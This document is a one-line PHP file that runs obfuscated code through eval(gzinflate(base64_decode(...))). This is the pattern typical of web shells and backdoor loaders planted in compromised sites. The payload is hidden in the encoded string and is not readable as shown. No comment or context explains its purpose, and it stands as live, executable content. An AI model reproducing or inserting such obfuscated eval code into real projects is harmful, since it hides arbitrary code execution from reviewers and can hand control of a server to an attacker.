<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')));
